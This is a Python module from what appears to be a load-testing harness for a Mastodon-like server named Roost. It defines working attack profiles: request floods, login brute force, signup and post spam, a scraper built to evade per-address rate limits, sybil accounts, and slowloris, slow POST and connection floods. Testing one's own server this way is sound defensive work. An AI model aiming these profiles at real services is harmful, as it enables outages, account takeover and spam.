"""Attack profiles: what each kind of bot sends. Mix them by listing several in a phase.

A *request* profile builds complete HTTP requests that the flood sends over keep-alive
connections as fast as its schedule allows. A *hold* profile (slowloris, slow POST, connection
flood) is about occupying connections, not about requests: it opens connections and keeps them
busy for as long as the server lets it.
"""

from __future__ import annotations

import random
import time
from dataclasses import dataclass, field
from typing import ClassVar
from urllib.parse import quote, urlencode

from roost.siege.agents import ACCEPT_ENCODING, ACCEPT_JSON, ACCEPT_PAGE, BROWSER_POOL, LANGUAGES
from roost.siege.wire import BROWSER_AGENTS, request_bytes

# Common words, so that searches match many posts and cannot be answered from an index alone.
_WORDS = "the a of love rain coffee dog cat music election news storm tweet follow sleep code cloud"
SEARCH_WORDS = (*_WORDS.split(), "monday", "pizza", "weather", "night", "star", "moon", "river")


@dataclass(frozen=True)
class AttackContext:
    """What setup learned before the run: credentials bots may abuse, names they may target."""

    host: str
    client_id: str = ""
    client_secret: str = ""
    app_token: str = ""
    bot_tokens: tuple[str, ...] = ()
    victims: tuple[str, ...] = ("admin@localhost",)  # logins that brute force aims at
    # A web session cookie and its CSRF token, fetched once from GET /login and then shared by
    # every bot, as a scripted attacker would: the form's check is per session, not per IP.
    login_cookie: str = ""
    login_csrf: str = ""
    usernames: tuple[str, ...] = ()  # legitimate users, whose profile pages scrapers fetch
    status_ids: tuple[str, ...] = ()  # statuses posted at setup, which sybils favourite


@dataclass
class Profile:
    """Base: one attack technique; ``kind`` says which driver runs it."""

    name: ClassVar[str] = ""
    kind: ClassVar[str] = "request"
    needs_bot_accounts: ClassVar[bool] = False
    default_paths: ClassVar[tuple[str, ...]] = ()
    takes_paths: ClassVar[bool] = True  # False: a fixed mix, and `paths` is refused
    default_rotate_after: ClassVar[int] = 0  # 0: automatic (scenario.py, _rotation)
    context: AttackContext
    rng: random.Random
    paths: tuple[str, ...] = ()
    counter: int = field(default=0)

    def __post_init__(self) -> None:
        self.paths = tuple(self.paths) or self.default_paths

    def request(self) -> bytes:
        """The next request a bot sends."""
        raise NotImplementedError

    def _agent(self) -> str:
        return BROWSER_AGENTS[self.counter % len(BROWSER_AGENTS)]

    def _get(self, path: str, headers: tuple[tuple[str, str], ...] = ()) -> bytes:
        return request_bytes("GET", path, self.context.host, headers, agent=self._agent())

    def _post_form(
        self, path: str, form: dict[str, str], token: str = "", cookie: str = ""
    ) -> bytes:
        headers = [("Content-Type", "application/x-www-form-urlencoded")]
        if token:
            headers.append(("Authorization", f"Bearer {token}"))
        if cookie:
            headers.append(("Cookie", cookie))
        body = urlencode(form).encode()
        return request_bytes("POST", path, self.context.host, headers, body, agent=self._agent())


class GetFlood(Profile):
    """Plain GETs of public pages and the public timeline API: cheap to send, cacheable."""

    name = "get_flood"
    default_paths = ("/", "/public", "/api/v1/timelines/public")

    def __post_init__(self) -> None:
        super().__post_init__()
        self._ready = [self._get(path) for path in self.paths]

    def request(self) -> bytes:
        self.counter += 1
        return self._ready[self.counter % len(self._ready)]


class CacheBust(Profile):
    """GETs with random query strings, so no cache can answer twice."""

    name = "cache_bust"
    default_paths = ("/", "/public", "/api/v1/timelines/public")

    def request(self) -> bytes:
        self.counter += 1
        path = self.paths[self.counter % len(self.paths)]
        sep = "&" if "?" in path else "?"
        return self._get(f"{path}{sep}{self.rng.getrandbits(48):x}={self.counter}")


class LoginBruteForce(Profile):
    """Wrong passwords against the OAuth password grant and the web login form."""

    name = "login_brute_force"
    default_paths = ("/oauth/token", "/login")

    def request(self) -> bytes:
        self.counter += 1
        victim = self.context.victims[self.counter % len(self.context.victims)]
        password = f"guess{self.rng.getrandbits(40):x}"
        path = self.paths[self.counter % len(self.paths)]
        if path.startswith("/oauth"):
            form = {"grant_type": "password", "username": victim, "password": password}
            form.update(client_id=self.context.client_id, client_secret=self.context.client_secret)
            form["scope"] = "read write"
            return self._post_form(path, form)
        form = {"username": victim, "password": password}
        if self.context.login_csrf:
            form["csrf"] = self.context.login_csrf
        return self._post_form(path, form, cookie=self.context.login_cookie)


class SignupFlood(Profile):
    """Account creation through the API, with an app token when setup could get one."""

    name = "signup_flood"
    default_paths = ("/api/v1/accounts",)

    def request(self) -> bytes:
        self.counter += 1
        user = f"bot{self.rng.getrandbits(40):x}"
        form = {"username": user, "email": f"{user}@bots.invalid", "password": f"pw-{user}-x9"}
        form.update(agreement="true", locale="en")
        return self._post_form(self.paths[0], form, self.context.app_token)


class PostSpam(Profile):
    """Statuses from registered bot accounts, each with a link, as spammers post."""

    name = "post_spam"
    needs_bot_accounts = True
    default_paths = ("/api/v1/statuses",)

    def request(self) -> bytes:
        self.counter += 1
        tokens = self.context.bot_tokens
        token = tokens[self.counter % len(tokens)] if tokens else ""
        text = (
            f"Cheap followers!!! http://spam.invalid/{self.rng.getrandbits(32):x} #{self.counter}"
        )
        return self._post_form(self.paths[0], {"status": text}, token)


class ExpensiveSearch(Profile):
    """Full-text searches with random words: no cache helps, the database does the work."""

    name = "search"
    default_paths = ("/api/v2/search",)

    def request(self) -> bytes:
        self.counter += 1
        words = " ".join(self.rng.sample(SEARCH_WORDS, 3))
        path = f"{self.paths[0]}?q={quote(words)}&resolve=false&limit=40"
        tokens = self.context.bot_tokens
        if not tokens:
            return self._get(path)
        token = tokens[self.counter % len(tokens)]
        return self._get(path, (("Authorization", f"Bearer {token}"),))


# Roost's ids are snowflakes: milliseconds since this epoch, shifted past 22 bits of worker and
# sequence (roost/domain/ids.py). A random max_id from the last month pages into the past.
SNOWFLAKE_EPOCH_MS = 1_288_834_974_657
SNOWFLAKE_SHIFT = 22
MONTH_MS = 30 * 86_400_000


class BotnetMix(Profile):
    """The outside reviewer's flood, one mix per bot: the home page, the home page with a
    random query, the local public timeline with and without a random ``max_id``, a search for
    a random word, and a password grant with junk credentials, in equal shares at random."""

    name = "botnet_mix"
    takes_paths = False
    SHARES = ("page", "busted", "local", "local_old", "search", "login")

    def __post_init__(self) -> None:
        super().__post_init__()
        self._page = self._get("/")
        self._local = self._get("/api/v1/timelines/public?local=true")
        self._now_ms = int(time.time() * 1000)

    def request(self) -> bytes:
        self.counter += 1
        kind = self.SHARES[self.rng.randrange(len(self.SHARES))]
        if kind == "page":
            return self._page
        if kind == "local":
            return self._local
        word = f"{self.rng.getrandbits(40):x}"
        if kind == "busted":
            return self._get(f"/?q={word}")
        if kind == "local_old":
            return self._get(f"/api/v1/timelines/public?local=true&max_id={self._old_id()}")
        if kind == "search":
            return self._get(f"/api/v2/search?q={word}")
        return self._junk_login(word)

    def _old_id(self) -> int:
        ms = self._now_ms - SNOWFLAKE_EPOCH_MS - self.rng.randrange(MONTH_MS)
        return (ms << SNOWFLAKE_SHIFT) | self.rng.getrandbits(SNOWFLAKE_SHIFT)

    def _junk_login(self, word: str) -> bytes:
        """Unknown user, random password; the app's credentials when setup made an app (the
        server then has to look the user up), junk ones otherwise."""
        form = {"grant_type": "password", "username": f"{word}@mail.invalid"}
        form["password"] = f"{self.rng.getrandbits(48):x}"
        form["client_id"] = self.context.client_id or f"{self.rng.getrandbits(64):x}"
        form["client_secret"] = self.context.client_secret or f"{self.rng.getrandbits(64):x}"
        form["scope"] = "read write"
        return self._post_form("/oauth/token", form)


class Scraper(Profile):
    """The 2025 scraper swarm: public pages and public API reads, each with a random query
    string (no cache can answer twice) and a random current browser's User-Agent, language
    and Accept headers, one request per connection by default (``rotate_after = 1``), so that
    each address asks about once and no per-address limit ever fires."""

    name = "scraper"
    default_rotate_after = 1
    # {tag}: a common word; {user}: a legitimate user's name (paths with it are skipped when
    # there are no users).
    default_paths = (
        "/",
        "/public",
        "/tags/{tag}",
        "/@{user}",
        "/api/v1/timelines/public",
        "/api/v1/timelines/tag/{tag}",
        "/api/v1/accounts/lookup?acct={user}",
    )
    BUSTERS = ("_", "cb", "utm_source", "ref", "v", "nocache")

    def __post_init__(self) -> None:
        super().__post_init__()
        known = bool(self.context.usernames)
        self._paths = tuple(p for p in self.paths if known or "{user}" not in p) or ("/",)

    def request(self) -> bytes:
        self.counter += 1
        rng = self.rng
        path = rng.choice(self._paths)
        if "{" in path:
            path = path.replace("{tag}", rng.choice(SEARCH_WORDS))
            path = path.replace("{user}", rng.choice(self.context.usernames or ("admin",)))
        sep = "&" if "?" in path else "?"
        path = f"{path}{sep}{rng.choice(self.BUSTERS)}={rng.getrandbits(48):x}"
        headers = (("Accept-Language", rng.choice(LANGUAGES)), ("Accept-Encoding", ACCEPT_ENCODING))
        accept = ACCEPT_JSON if path.startswith("/api/") else ACCEPT_PAGE
        agent = rng.choice(BROWSER_POOL)
        return request_bytes("GET", path, self.context.host, headers, agent=agent, accept=accept)


class Sybil(Profile):
    """Freshly signed-up accounts (``bot_accounts``) with valid tokens doing what a signed-in
    person does, only much faster: home timeline, notifications, favourites of the statuses
    legitimate users posted at setup, and posts. Each request carries a random bot's token."""

    name = "sybil"
    needs_bot_accounts = True
    takes_paths = False
    # By weight, out of 20: home 8, notifications 5, favourite 4, post 3.
    ACTIONS = ("home",) * 8 + ("notifications",) * 5 + ("favourite",) * 4 + ("post",) * 3

    def request(self) -> bytes:
        self.counter += 1
        rng, context = self.rng, self.context
        token = rng.choice(context.bot_tokens) if context.bot_tokens else ""
        auth = (("Authorization", f"Bearer {token}"),) if token else ()
        action = self.ACTIONS[rng.randrange(len(self.ACTIONS))]
        if action == "favourite" and context.status_ids:
            path = f"/api/v1/statuses/{rng.choice(context.status_ids)}/favourite"
            return request_bytes("POST", path, context.host, auth, agent=self._agent())
        if action == "post":
            text = f"Follow me for more! #{rng.choice(SEARCH_WORDS)} {rng.getrandbits(24):x}"
            return self._post_form("/api/v1/statuses", {"status": text}, token)
        if action == "notifications":
            return self._get("/api/v1/notifications?limit=15", auth)
        return self._get("/api/v1/timelines/home?limit=20", auth)


class Slowloris(Profile):
    """Headers dribbled one byte at a time, never finished, to pin a server's connections."""

    name = "slowloris"
    kind = "hold"
    default_paths = ("/",)

    def opening(self) -> bytes:
        """What is dribbled first; then ``trickle`` forever."""
        head = f"GET {self.paths[0]} HTTP/1.1\r\nHost: {self.context.host}\r\n"
        return (head + f"User-Agent: {self._agent()}\r\n").encode()

    def trickle(self) -> bytes:
        self.counter += 1
        return f"X-{self.counter:x}: {self.rng.getrandbits(16):x}\r\n".encode()


class SlowPost(Slowloris):
    """Complete headers announcing a large body, then the body a byte at a time."""

    name = "slow_post"
    default_paths = ("/login",)

    def opening(self) -> bytes:
        head = request_bytes(
            "POST",
            self.paths[0],
            self.context.host,
            [("Content-Type", "application/x-www-form-urlencoded")],
            agent=self._agent(),
        )
        return head.replace(b"Content-Length: 0", b"Content-Length: 1000000")

    def trickle(self) -> bytes:
        return b"a"


class ConnectionFlood(Slowloris):
    """Open connections and hold them without sending a byte."""

    name = "connection_flood"

    def opening(self) -> bytes:
        return b""

    def trickle(self) -> bytes:
        return b""


PROFILES: dict[str, type[Profile]] = {
    cls.name: cls
    for cls in (
        GetFlood,
        CacheBust,
        LoginBruteForce,
        SignupFlood,
        PostSpam,
        ExpensiveSearch,
        BotnetMix,
        Scraper,
        Sybil,
        Slowloris,
        SlowPost,
        ConnectionFlood,
    )
}
